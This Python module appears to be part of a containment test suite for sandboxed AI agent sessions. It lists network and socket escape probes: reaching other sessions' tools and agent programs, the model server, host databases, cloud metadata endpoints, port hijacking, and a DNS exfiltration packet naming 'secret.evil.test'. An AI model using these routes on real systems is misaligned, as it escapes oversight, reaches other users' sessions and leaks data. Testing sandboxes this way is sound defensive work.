"""What listens: the fleet's ports, other sessions' ports, sockets with and without a path; and the world outside."""

from __future__ import annotations

import os
import socket
from functools import partial

from .table import Facts, Held, add, attack

MSG_FASTOPEN, IPPROTO_MPTCP = 0x20000000, 262
LOOPBACK = "127.0.0.1"
SECONDS = 2.0

PORTS = {
    "the API": ("server", "port"),
    "a tool of another session": ("victim", "tcp"),
    "a database of the machine": ("host", "tcp"),
    "the model itself": ("server", "model_port"),
}


def connected(made: socket.socket, address: str | tuple[str, int]) -> str:
    with made:
        made.settimeout(SECONDS)
        made.connect(address)
        return f"connected to {made.getpeername()}"


def _connects(where: tuple[str, str], facts: Facts) -> object:
    return connected(socket.socket(), (LOOPBACK, facts[where[0]][where[1]]))


def _fast(where: tuple[str, str], facts: Facts) -> object:
    """Without connect(2): the first data opens the connection."""
    with socket.socket() as made:
        made.sendto(b"GET / HTTP/1.0\r\n\r\n", MSG_FASTOPEN, (LOOPBACK, facts[where[0]][where[1]]))
        return made.getpeername()


def _multipath(where: tuple[str, str], facts: Facts) -> object:
    made = socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP)
    return connected(made, (LOOPBACK, facts[where[0]][where[1]]))


def _mapped(where: tuple[str, str], facts: Facts) -> object:
    return connected(socket.socket(socket.AF_INET6), (f"::ffff:{LOOPBACK}", facts[where[0]][where[1]]))


for _what, _where in PORTS.items():
    add(f"connect to {_what}", partial(_connects, _where), "limited")
    add(f"connect to {_what} by its first data", partial(_fast, _where), "protocols", by_kernel=True)
    add(f"connect to {_what} by several paths", partial(_multipath, _where), "protocols", by_kernel=True)
    add(f"connect to {_what} by IPv6", partial(_mapped, _where), "limited", by_kernel=True)


@attack("take the port of an instance without choosing it", "silent", by_kernel=True)
def _(facts: Facts) -> object:
    """listen(2) on what was not bound chooses one of the kernel's own range."""
    with socket.socket() as made:
        made.listen()
        return made.getsockname()


def _shares(address: str, facts: Facts) -> object:
    with socket.socket() as made:
        for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
            made.setsockopt(socket.SOL_SOCKET, option, 1)
        made.bind((address, facts["server"]["port"]))
        made.listen()
        return made.getsockname()


add("listen beside the API at its other addresses", partial(_shares, "127.0.0.2"), "ports")


@attack("send a packet to a service of the machine", "limited")
def _(facts: Facts) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.settimeout(SECONDS)
        made.sendto(b"ping", (LOOPBACK, facts["host"]["udp"]))
        return made.recv(100)


@attack("resolve names by packets of one's own", "limited")
def _(facts: Facts) -> object:
    """A way out for data wherever names can be resolved: the name is the data."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.settimeout(SECONDS)
        made.connect((LOOPBACK, facts["host"]["udp"]))
        made.send(b"\x00\x01\x01\x00\x00\x01" + bytes(6) + b"\x06secret\x04evil\x04test\x00\x00\x01\x00\x01")
        return made.recv(100)


def _goes_out(host: str, port: int, facts: Facts) -> object:
    """Whether the kernel would let it out; whoever is there does not matter."""
    with socket.socket() as made:
        made.settimeout(0.3)
        try:
            made.connect((host, port))
        except (TimeoutError, ConnectionError):
            return "the kernel has sent it"
        return "connected"


for _what, _host, _port in (
    ("a cloud's metadata", "169.254.169.254", 80),
    ("Azure's host agent", "168.63.129.16", 80),
    ("Azure's host agent for extensions", "168.63.129.16", 32_526),
    ("the internet", "198.51.100.1", 443),
):
    add(f"connect to {_what}", partial(_goes_out, _host, _port), "ports", by_kernel=True)


def _to_path(where: str, name: str, facts: Facts) -> object:
    """A long path is entered first: an address has 107 bytes."""
    directory, _, file = facts[where][name].rpartition("/")
    os.chdir(directory)
    return connected(socket.socket(socket.AF_UNIX), file)


def _abstract(where: str, facts: Facts) -> object:
    return connected(socket.socket(socket.AF_UNIX), "\0" + facts[where]["abstract"])


add("connect to a socket of the machine by its path", partial(_to_path, "host", "socket"), "unix", "namespaces")
add(
    "connect to a socket of another session by its path",
    partial(_to_path, "victim", "socket"),
    "unix",
    "namespaces",
)
add("connect to PostgreSQL by its path", partial(_to_path, "server", "postgres"), "unix", "namespaces")
add("connect to Redis by its path", partial(_to_path, "server", "redis"), "unix", "namespaces")
add("connect to an abstract socket of the machine", partial(_abstract, "host"), "scopes", "unix")
add("connect to an abstract socket of another session", partial(_abstract, "victim"), "scopes", "unix")


@attack("send a packet to an abstract socket of the machine", "scopes", "unix")
def _(facts: Facts) -> object:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as made:
        return made.sendto(b"ping", "\0" + facts["host"]["abstract"] + "-datagrams")


@attack("command the agent's program of another session", "files", "unix", "namespaces", by_kernel=True)
def _(facts: Facts) -> object:
    """By the socket that it listens on for others of its kind."""
    found = facts["victim"].get("messages")
    if not found:
        raise Held("it has none")
    return connected(socket.socket(socket.AF_UNIX), found)


@attack("hand a descriptor to a service of the machine", "scopes", "unix")
def _(facts: Facts) -> object:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as made:
        made.settimeout(SECONDS)
        made.connect("\0" + facts["host"]["abstract"])
        socket.send_fds(made, [b"x"], [0])
        return "sent a descriptor"
